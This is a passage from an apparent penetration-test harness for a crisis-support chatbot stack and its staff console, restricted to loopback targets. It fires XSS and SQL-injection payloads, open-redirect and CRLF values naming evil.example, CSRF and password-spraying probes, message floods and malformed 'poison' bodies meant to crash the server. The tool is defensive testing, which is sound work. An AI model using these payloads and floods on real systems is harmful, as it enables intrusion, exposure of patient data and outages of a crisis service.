              note=f"{checked} checked, then 429 x{codes.count(429)}")

    aid, what = "STAFF-LOGIN-THROTTLE-GLOBAL", "after one username is locked, other usernames from the same address are throttled too"
    user_b = f"ghost-b-{RUN}"
    codes_b = [h.staff_login(user_b, f"wrong-password-{i}")[1].status_code for i in range(20)]
    checked_b = codes_b.count(401)
    h.verdict(aid, what, checked_b > 0, f"same address, second username: {checked_b} more password checks "
              f"(codes {sorted(set(codes_b))}); limit is per username+IP only, so password spraying across usernames is unthrottled",
              note=f"second username got {codes_b[:3]}...")

    s = h.staff()
    if s is None:
        for aid, what in (("STAFF-ID-HUGE", "huge escalation id"), ("STAFF-ID-SUPERSCRIPT", "superscript id"),
                          ("STAFF-ID-FULLWIDTH", "full-width digit id"), ("STAFF-CSRF", "CSRF"),
                          ("STAFF-XSS", "stored XSS"), ("STAFF-OPEN-REDIRECT", "open redirect"),
                          ("STAFF-SQLI", "injection in filters"), ("STAFF-API-COOKIE", "cookie on API")):
            h.skip(aid, what, "no --staff-user/--staff-password (or sign-in failed)")
    else:
        staff_signed_in(h, s)
    staff_api(h)


def _title_id(html: str) -> str | None:
    m = re.search(r"<title>\s*Escalation (\d+)", html)
    return m.group(1) if m else None


def staff_signed_in(h: Harness, s: requests.Session) -> None:
    web = h.web
    cases = {
        "STAFF-ID-HUGE": ("/staff/escalations/99999999999999999999999", "/staff/escalations/99999999999999999999999 is 404"),
        "STAFF-ID-SUPERSCRIPT": ("/staff/escalations/%C2%B2", "/staff/escalations/%C2%B2 (superscript two) is 404"),
        "STAFF-ID-FULLWIDTH": ("/staff/escalations/%EF%BC%91",
                               "/staff/escalations/%EF%BC%91 (full-width 1) is 404 and never opens escalation 1"),
    }
    for aid, (path, what) in cases.items():
        try:
            r = s.get(web + path, allow_redirects=False, timeout=h.t)
        except requests.RequestException as e:
            h.bad(aid, what, f"connection error {type(e).__name__}")
            continue
        opened = _title_id(r.text)
        h.verdict(aid, what, r.status_code != 404 or opened is not None,
                  f"HTTP {r.status_code}" + (f", opened escalation {opened} (PHI view, audited as escalation {opened})" if opened else ""),
                  note=f"HTTP {r.status_code}")
    # the same ids on POST routes (CSRF token sent, so only the id parsing is tested); the status change is to "acknowledged"
    aid, what = "STAFF-ID-POST", "POST /staff/escalations/<odd id>/notes with full-width/superscript/huge ids is 404"
    page = s.get(web + "/staff", timeout=h.t).text
    m = re.search(r'name="csrf_token" value="([^"]+)"', page)
    token = m.group(1) if m else ""
    results = []
    for raw in ("%EF%BC%91", "%C2%B2", "99999999999999999999999"):
        r = s.post(f"{web}/staff/escalations/{raw}/notes", data={"csrf_token": token, "text": f"pentest note {RUN}"},
                   allow_redirects=False, timeout=h.t)
        results.append((raw, r.status_code, r.headers.get("Location", "")))
    bad = [x for x in results if x[1] != 404]
    h.verdict(aid, what, bool(bad), f"{bad} (a note was attached to a real escalation or the server failed)")

    aid, what = "STAFF-CSRF", "console POSTs without (or with a wrong) CSRF token are refused"
    target = h.escalation_id or 1
    r1 = s.post(f"{web}/staff/escalations/{target}/assign", data={}, allow_redirects=False, timeout=h.t)
    r2 = s.post(f"{web}/staff/escalations/{target}/assign", data={"csrf_token": "x" * 43}, allow_redirects=False, timeout=h.t)
    r3 = s.post(f"{web}/staff/escalations/{target}/assign", json={"csrf_token": token}, allow_redirects=False, timeout=h.t)
    codes = (r1.status_code, r2.status_code, r3.status_code)
    h.verdict(aid, what, any(c in (200, 302, 303) for c in codes), f"no token/wrong token/JSON body -> {codes}", note=f"{codes}")

    aid, what = "STAFF-XSS", "HTML in sender id / message text / forged trigger text is escaped in the console"
    payload_sender = f"<img src=x onerror=alert('{RUN}')>"
    h.rest(payload_sender, f"<script>alert('{RUN}')</script> {CRISIS_TEXT}", timeout=30)
    time.sleep(1)
    found = []
    q = s.get(web + "/staff?status=all", timeout=h.t).text
    ids = [int(x) for x in re.findall(r'/staff/escalations/(\d+)"', q)]
    for eid in sorted(set(ids))[-10:]:
        page = s.get(f"{web}/staff/escalations/{eid}", timeout=h.t).text
        for needle in ("<script>alert(", "<img src=x onerror", "<script>alert('x')"):
            if needle in page:
                found.append(f"escalation {eid}: raw {needle!r}")
    for needle in ("<script>alert(", "<img src=x onerror"):
        if needle in q:
            found.append(f"queue: raw {needle!r}")
    csp = s.get(web + "/staff", timeout=h.t).headers.get("Content-Security-Policy", "")
    h.verdict(aid, what, bool(found), "; ".join(found[:4]), note=f"escaped; CSP {csp[:40]}...")

    aid, what = "STAFF-OPEN-REDIRECT", "sign-in `next` cannot redirect off-site"
    offsite = []
    for nxt in ("//evil.example/", "https://evil.example/", "/\\evil.example", "/staff/..//evil.example", "/staff\\@evil.example",
                "/staff/%2f%2fevil.example", "/staff\r\nSet-Cookie: x=1", "/staff/\t/evil.example"):
        s2, r = h.staff_login(h.a.staff_user, h.a.staff_password, next_=nxt)
        loc = r.headers.get("Location", "")
        if r.status_code >= 500:
            offsite.append(f"next={nxt!r} -> HTTP {r.status_code}")
        resolved = urljoin(web + "/staff/login", loc)
        if urlsplit(resolved).netloc != urlsplit(web).netloc or re.search(r"(^|[;,]\s*)x=1", r.headers.get("Set-Cookie", "")):
            offsite.append(f"next={nxt!r} -> Location {loc!r}")
        try:
            token = re.search(r'name="csrf_token" value="([^"]+)"', s2.get(web + "/staff", timeout=h.t).text)
            s2.post(web + "/staff/logout", data={"csrf_token": token.group(1)},  # type: ignore[union-attr]  # caught below
                    allow_redirects=False, timeout=h.t)
        except (AttributeError, requests.RequestException):
            pass
    page = requests.get(web + "/staff/login?next=%2F%2Fevil.example", timeout=h.t).text
    if 'value="//evil.example"' in page:
        offsite.append("login form echoes next=//evil.example")
    h.verdict(aid, what, bool(offsite), "; ".join(offsite))

    aid, what = "STAFF-SQLI", "injection-shaped filters (status/outcome/before) give no 500 and no extra rows"
    problems = []
    base_rows = len(re.findall(r'/staff/escalations/\d+"', s.get(web + "/staff?status=new", timeout=h.t).text))
    for path in ("/staff?status=new' OR '1'='1", "/staff?status=new%22%20OR%201=1--", "/staff/prescreens?outcome=x'%20OR%201=1--",
                 "/staff/prescreens?status=to_call'--", "/staff/audit?before=1%20OR%201=1", "/staff?status=%00"):
        r = s.get(web + path, allow_redirects=False, timeout=h.t)
        if r.status_code >= 500:
            problems.append(f"{path}->{r.status_code}")
    h.verdict(aid, what, bool(problems), "; ".join(problems), note=f"{base_rows} rows for status=new")

    aid, what = "STAFF-API-COOKIE", "console session cookie is not accepted by the bearer-token JSON API"
    r = s.get(web + "/staff/api/escalations?reveal=1", timeout=h.t)
    h.verdict(aid, what, r.status_code == 200, f"HTTP {r.status_code} with only the session cookie", note=f"HTTP {r.status_code}")


def staff_api(h: Harness) -> None:
    web = h.web
    if not h.a.api_token:
        h.skip("STAFF-API-IDS", "odd ids/limits on the JSON API", "no --api-token")
        return
    hdr = {"Authorization": f"Bearer {h.a.api_token}"}
    aid, what = "STAFF-API-IDS", "JSON API: full-width/superscript/huge escalation ids are 404 (never escalation 1, never 500)"
    bad = []
    for raw in ("%EF%BC%91", "%C2%B2", "99999999999999999999999"):
        for suffix in ("", "/turn-count"):
            r = requests.get(f"{web}/staff/api/escalations/{raw}{suffix}", headers=hdr, timeout=h.t)
            if r.status_code != 404:
                extra = ""
                try:
                    extra = f" id={r.json().get('id')}" if r.status_code == 200 else ""
                except ValueError:
                    pass
                bad.append(f"{raw}{suffix}->{r.status_code}{extra}")
    h.verdict(aid, what, bool(bad), "; ".join(bad))

    aid, what = "STAFF-API-LIMIT", "JSON API: limit=<superscript>/full-width/huge gives no 500"
    bad = []
    for q in ("limit=%C2%B2", "limit=%EF%BC%95", "limit=99999999999999999999999999", "limit=-1", "limit=%00"):
        for path in ("/staff/api/escalations", "/staff/api/prescreens"):
            r = requests.get(f"{web}{path}?{q}", headers=hdr, timeout=h.t)
            if r.status_code >= 500:
                bad.append(f"{path}?{q}->{r.status_code}")
    h.verdict(aid, what, bool(bad), "; ".join(bad))


# ----------------------------------------------------------------------------------------- files, logs


def files(h: Harness) -> None:
    aid, what = "DB-PERMS", "VAR_DIR/*.db (PHI) are not world-readable"
    if not h.a.var_dir:
        h.skip(aid, what, "no --var-dir")
        return
    found = []
    for p in sorted(Path(h.a.var_dir).glob("*.db*")):
        mode = p.stat().st_mode
        if mode & (stat.S_IROTH | stat.S_IWOTH | stat.S_IRGRP):
            found.append(f"{p.name} {stat.filemode(mode)}")
    h.verdict(aid, what, bool(found), "; ".join(found))


def logs(h: Harness) -> None:
    aid, what = "LOG-PHI", "message text and phone numbers sent during the run do not appear in the stack's log"
    if not h.a.log_file:
        h.skip(aid, what, "no --log-file")
        return
    try:
        text = Path(h.a.log_file).read_text(errors="replace")
    except OSError as e:
        h.skip(aid, what, f"cannot read log: {e}")
        return
    hits = [m for m in set(h.markers + [VICTIM_PHONE, CRISIS_TEXT[:30]]) if m and m in text]
    h.verdict(aid, what, bool(hits), f"found in log: {hits[:4]}")


# ----------------------------------------------------------------------------------------- load / size


def timed(fn, *a, **kw):
    t0 = time.monotonic()
    try:
        res = fn(*a, **kw)
    except Exception as e:  # noqa: BLE001
        res = e
    return res, time.monotonic() - t0


HEAVY = "I would never want to die, no thoughts of suicide, I am not going to hurt myself. "


def huge_messages(h: Harness) -> None:
    text = (HEAVY * (100_000 // len(HEAVY) + 1))[:100_000]
    aid, what = "HUGE-REST", "100,000-char message over REST is refused or answered within 1 s, and a concurrent hello stays under 1 s"
    with cf.ThreadPoolExecutor(2) as pool:
        big = pool.submit(timed, h.rest, f"huge-{RUN}", text, 120)
        time.sleep(0.3)
        hello = pool.submit(timed, h.rest, f"huge-hello-{RUN}", "hello", 60)
        (rb, tb), (rh, th) = big.result(), hello.result()
    code_b = getattr(rb, "status_code", type(rb).__name__)
    code_h = getattr(rh, "status_code", type(rh).__name__)
    refused = isinstance(code_b, int) and 400 <= code_b < 500
    fail = (not refused and tb > 1.0) or th > 1.0
    h.verdict(aid, what, fail, f"big -> {code_b} in {tb:.2f}s, concurrent hello -> {code_h} in {th:.2f}s (event loop blocked by NLU)",
              note=f"big {code_b} {tb:.2f}s, hello {th:.2f}s")

    if socketio is None:
        h.skip("HUGE-SIO", "100k message over socket.io", "python-socketio not installed")
        return
    aid, what = "HUGE-SIO", "100,000-char message over socket.io is refused or answered within 1 s, concurrent hello under 1 s"
    events: dict = {}
    sid = f"huge-sio-{RUN}"
    try:
        c = sio_client(h, events, "big", sid)
        sid = events.get("big:confirm", sid)  # speak in the session the server confirmed, as the widget does
        t0 = time.monotonic()
        c.emit("user_uttered", {"message": text, "session_id": sid})
        time.sleep(0.3)
        rh, th = timed(h.rest, f"huge-sio-hello-{RUN}", "hello", 60)
        waited = wait_for(events, "big", 1, 120)
        tb = time.monotonic() - t0 if waited is not None else None
        c.disconnect()
    except Exception as e:  # noqa: BLE001
        h.ok(aid, what, f"refused: {type(e).__name__}: {e}")
        return
    code_h = getattr(rh, "status_code", type(rh).__name__)
    fail = tb is None or tb > 1.0 or th > 1.0
    h.verdict(aid, what, fail, f"bot answered the 100k message after {tb if tb is None else round(tb, 2)}s, "
              f"concurrent REST hello -> {code_h} in {th:.2f}s", note=f"{tb}s, hello {th:.2f}s")

    aid, what = "SIO-NOCUT", "socket.io messages are cut like REST (<= 100,000 chars stored)"
    events = {}
    sid = f"nocut-{RUN}"
    try:
        c = sio_client(h, events, "n", sid)
        sid = events.get("n:confirm", sid)
        c.emit("user_uttered", {"message": "a " * 90_000, "session_id": sid})  # 180,000 chars, cheap to process
        wait_for(events, "n", 1, 60)
        c.disconnect()
        lengths = [len(t) for _, t in h.user_texts(sid)]
        h.verdict(aid, what, any(n > 100_000 for n in lengths), f"stored user text of {lengths} chars over socket.io "
                  "(REST cuts at 100,000; socket.io has no cap besides the 1 MB engine.io buffer)", note=f"{lengths}")
    except Exception as e:  # noqa: BLE001
        h.ok(aid, what, f"refused: {type(e).__name__}")


def rest_big_body(h: Harness) -> None:
    aid, what = "REST-BIGBODY", "20 MB REST body is refused before it is read in full"
    try:
        res = raw_post(h.rasa + "/webhooks/rest/webhook", 20 * 1024 * 1024, "application/json")
        h.verdict(aid, what, not res["early"] and res["sent"] >= 20 * 1024 * 1024,
                  f"read all 20 MB, answered {res['status']} after {res['seconds']:.2f}s (Sanic's 100 MB default limit)",
                  note=f"stopped after {res['sent']} bytes, {res['status']}")
    except OSError as e:
        h.ok(aid, what, f"refused early: {type(e).__name__}")


def floods(h: Harness) -> None:
    aid, what = "ESCALATION-FLOOD", "25 crisis messages under fresh sender ids from one address are throttled (staff queue flooding)"
    senders = [f"flood-{RUN}-{i}" for i in range(25)]
    t0 = time.monotonic()
    codes = []
    with cf.ThreadPoolExecutor(5) as pool:
        for r in pool.map(lambda s: timed(h.rest, s, CRISIS_TEXT, 60)[0], senders):
            codes.append(getattr(r, "status_code", type(r).__name__))
    dt = time.monotonic() - t0
    time.sleep(1.5)
    created = None
    if h.a.var_dir or h.a.api_token:
        created = sum(1 for s in senders if h.escalations_for(s))
    h.verdict(aid, what, codes.count(200) == len(senders) and (created is None or created >= 20),
              f"{codes.count(200)}/25 accepted in {dt:.1f}s, {created if created is not None else '?'} new P1 escalations queued; "
              "no per-address limit", note=f"codes {sorted(set(map(str, codes)))}, created {created}")

    aid, what = "REST-RATE", "60 rapid REST messages from one sender/address are rate limited"
    codes = []
    t0 = time.monotonic()
    for i in range(60):
        try:
            codes.append(h.rest(f"rate-{RUN}", f"what is tms {i}", timeout=10).status_code)
        except requests.RequestException as e:
            codes.append(type(e).__name__)
    dt = time.monotonic() - t0
    h.verdict(aid, what, codes.count(200) == 60, f"60/60 answered 200 in {dt:.1f}s; no 429 ever",
              note=f"codes {sorted(set(map(str, codes)))}")

    if socketio is None:
        h.skip("SIO-FLOOD", "socket.io connection flood", "python-socketio not installed")
        return
    aid, what = "SIO-FLOOD", "socket.io flood (40 sessions, 200 queued messages from one address) keeps a concurrent hello under 1 s"
    clients = []
    events: dict = {}
    try:
        for i in range(40):
            clients.append(sio_client(h, events, f"f{i}", f"sioflood-{RUN}-{i}"))
        for i, c in enumerate(clients):
            for j in range(5):
                session = events.get(f"f{i}:confirm", f"sioflood-{RUN}-{i}")
                c.emit("user_uttered", {"message": f"what is tms {j}", "session_id": session})
        time.sleep(0.2)
        rh, th = timed(h.rest, f"sioflood-hello-{RUN}", "hello", 60)
        connected = sum(1 for c in clients if c.connected)
        code_h = getattr(rh, "status_code", type(rh).__name__)
        h.verdict(aid, what, connected == 40 and th > 1.0,
                  f"{connected}/40 sessions accepted, 200 messages queued, concurrent hello -> {code_h} in {th:.2f}s",
                  note=f"{connected}/40 connected, hello {th:.2f}s")
    except Exception as e:  # noqa: BLE001
        h.ok(aid, what, f"refused after {len(clients)} sessions: {type(e).__name__}")
    finally:
        for c in clients:
            try:
                c.disconnect()
            except Exception:  # noqa: BLE001
                pass


# ----------------------------------------------------------------------------------------- poison ids (last: may kill Rasa)


def poison(h: Harness) -> None:
    long_id = "A" * 10240
    cases = [
        ("POISON-NUL", "REST sender id with a NUL character", b'{"sender":"nul\\u0000' + RUN.encode() + b'","message":"hi"}'),
        ("POISON-10KB", "REST sender id of 10 KB", json.dumps({"sender": long_id, "message": "hi"}).encode()),
        ("POISON-NONSTRING-INT", "REST sender id that is a JSON number", b'{"sender":' + str(int(RUN, 16)).encode() + b',"message":"hi"}'),
        ("POISON-NONSTRING-OTHER", "REST sender id that is true / a list / an object / a float", None),
        ("POISON-BINARY", "REST body of binary garbage", b"\xff\xfe\x00\x81garbage\x80{\"sender\":"),
        ("POISON-SURROGATE", "REST sender id with a lone surrogate (raw JSON \\udfff)",
         b'{"sender":"sur\\udfff' + RUN.encode() + b'","message":"hi"}'),
    ]
    for aid, what, body in cases:
        what = what + ": 4xx, and a normal hello still answered within 2 s"
        bodies = [body] if body is not None else [
            b'{"sender":true,"message":"hi"}', b'{"sender":[1],"message":"hi"}', b'{"sender":{"a":1},"message":"hi"}',
            b'{"sender":1.5,"message":"hi"}']
        outcomes: list[int | str] = []
        for b in bodies:
            try:
                r = h.rest(None, None, raw=b, timeout=15)
                outcomes.append(r.status_code)
            except requests.RequestException as e:
                outcomes.append(type(e).__name__)
        # The stack limits one address to a burst then 60 messages a minute: wait for one refill so the
        # hello measures whether the server still answers, not the limit the earlier attacks used up.
        time.sleep(1.1)
        ok_hello, hello_note = h.hello_ok(2.0)
        failures, first = h.watch_down(5.0)  # a crash can take a moment to stop the process
        down = ""
        if failures:
            waited = h.wait_rasa(120)
            down = (f"; Rasa stopped answering {first:.1f}s later and came back after another {waited:.0f}s (process restarted)"
                    if waited >= 0 else "; Rasa did not come back within 120s")
            ok_hello = False
            again, note2 = h.hello_ok(2.0)
            down += f"; then {note2}"
        bad = [o for o in outcomes if not (isinstance(o, int) and 400 <= o < 500)]
        h.verdict(aid, what, bool(bad) or not ok_hello,
                  f"answers {outcomes}; {hello_note}{down}", note=f"answers {outcomes}; {hello_note}")


# ----------------------------------------------------------------------------------------- main


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--rasa", required=True, help="Rasa server, e.g. http://127.0.0.1:17005")
    ap.add_argument("--web", required=True, help="web/staff console, e.g. http://127.0.0.1:17080")
    ap.add_argument("--actions", required=True, help="action server, e.g. http://127.0.0.1:17055")
    ap.add_argument("--twilio-url", default="", help="Twilio webhook URL (default: <rasa>/webhooks/twilio/webhook)")
    ap.add_argument("--twilio-token", default="testtoken", help="TWILIO_AUTH_TOKEN of the test stack")
    ap.add_argument("--twilio-number", default="+15550100000")
    ap.add_argument("--timeout", type=float, default=10.0, help="per-request timeout in seconds")
    ap.add_argument("--var-dir", default="", help="the stack's VAR_DIR: sqlite checks (read-only) and file permissions")
    ap.add_argument("--staff-user", default="", help="a staff console account (for signed-in attacks)")
    ap.add_argument("--staff-password", default="")
    ap.add_argument("--api-token", default="", help="a staff JSON API bearer token")
    ap.add_argument("--log-file", default="", help="the stack's combined log, searched for PHI at the end")
    args = ap.parse_args()
    loopback_only(args.rasa, args.web, args.actions, args.twilio_url)
    for noisy in ("engineio.client", "socketio.client", "engineio", "socketio"):
        logging.getLogger(noisy).setLevel(logging.CRITICAL)

    h = Harness(args)
    print(f"# TMS Assistant attack run {RUN} at {time.strftime('%Y-%m-%d %H:%M:%S')} against rasa={h.rasa} "
          f"web={h.web} actions={h.actions}", flush=True)
    setup(h)
    for step in (rasa_api, interfaces, action_server, cross_channel, twilio, staff_console, files,
                 rest_big_body, huge_messages, floods, poison, logs):
        try:
            step(h)
            h.settle()
        except Exception as e:  # noqa: BLE001  (an attack that crashed is reported, the others still run)
            h.bad(f"{step.__name__.upper()}-ERROR", f"attack group {step.__name__} did not complete",
                  f"{type(e).__name__}: {str(e)[:150]} at {traceback.extract_tb(e.__traceback__)[-1].lineno}")
            h.wait_rasa(60)
    if h.skipped:
        print(f"# {h.skipped} skipped (missing prerequisites)", flush=True)
    print(f"{h.passed} passed, {h.failed} failed", flush=True)
    return 0


if __name__ == "__main__":
    try:
        main()
    except SystemExit as e:
        if e.code not in (0, None):
            print(e.code, file=sys.stderr)
    sys.exit(0)
